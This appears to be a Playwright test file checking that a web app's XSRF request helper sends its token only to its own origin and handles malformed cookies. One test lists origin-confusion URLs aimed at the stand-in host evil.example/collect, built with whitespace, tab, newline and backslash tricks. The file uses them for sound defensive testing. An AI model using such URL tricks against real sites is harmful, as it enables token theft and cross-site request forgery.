import { readFileSync } from 'node:fs';
import ts from 'typescript';
import { test, expect } from './support/fixtures.ts';

/**
 * The XSRF helper (src/http/request.ts) as Chromium runs it: the site sends no state-changing
 * request yet, so the test loads the module into the page itself and lets the browser's own URL
 * parser and fetch decide where the token goes.
 */
const moduleSource = ts.transpileModule(
  readFileSync(new URL('../src/http/request.ts', import.meta.url), 'utf8'),
  { compilerOptions: { target: ts.ScriptTarget.ES2022, module: ts.ModuleKind.CommonJS } },
).outputText;

declare global {
  interface Window {
    xsrf: typeof import('../src/http/request.ts');
  }
}

const FOREIGN = 'evil.example';

test.describe('the XSRF token', () => {
  test.beforeEach(async ({ page, context, baseURL }) => {
    await context.addCookies([{ name: 'XSRF-TOKEN', value: 'secret-token', url: baseURL! }]);
    await page.goto('./#/home');
    // Evaluated by the test driver, not as page script, so the site's CSP does not stand in the way.
    await page.evaluate(
      `(() => { const exports = {}; ${moduleSource}; window.xsrf = exports; })()`,
    );
  });

  // One page for all the spellings: each is a request of its own, and the page is only the host.
  test('never reaches another origin however the URL is written', async ({ page }) => {
    const received: (string | undefined)[] = [];
    await page.route(/^https?:\/\/evil\.example\//, async (route) => {
      received.push(
        await route
          .request()
          .headerValue('x-xsrf-token')
          .then((v) => v ?? undefined),
      );
      await route.fulfill({ status: 204 });
    });
    for (const url of [
      ' https://evil.example/collect',
      '\t//evil.example/collect',
      '/\t/evil.example/collect',
      '/\\evil.example/collect',
      '\n\n//evil.example/collect',
    ]) {
      await test.step(JSON.stringify(url), async () => {
        received.length = 0;
        const status = await page.evaluate(
          (target) =>
            window.xsrf
              .request(target, { method: 'POST', body: '{}' })
              .then((r) => r.status, String),
          url,
        );
        // The browser did send the request abroad (so the test saw the real thing)…
        expect(
          received,
          `${JSON.stringify(url)}: request to ${FOREIGN} (answer: ${status})`,
        ).toHaveLength(1);
        // …but without the token.
        expect(received[0], `${JSON.stringify(url)}: the token`).toBeUndefined();
      });
    }
  });

  test('goes with a state-changing request to the own origin', async ({ page }) => {
    const received: (string | null)[] = [];
    await page.route('**/api/contact', async (route) => {
      received.push(await route.request().headerValue('x-xsrf-token'));
      await route.fulfill({ status: 204 });
    });
    await page.evaluate(() => window.xsrf.request('./api/contact', { method: 'POST', body: '{}' }));
    expect(received).toEqual(['secret-token']);
  });

  test('a cookie that is no valid header value gives a rejected promise, never a throw', async ({
    page,
  }) => {
    await page.evaluate(() => {
      document.cookie = 'XSRF-TOKEN=bad%00value; path=/';
    });
    const outcome = await page.evaluate(() => {
      try {
        return window.xsrf.request('./api/contact', { method: 'POST' }).then(
          () => 'resolved',
          (error: unknown) =>
            `rejected: ${error instanceof TypeError ? 'TypeError' : String(error)}`,
        );
      } catch {
        return 'thrown';
      }
    });
    expect(outcome).toBe('rejected: TypeError');
  });
});
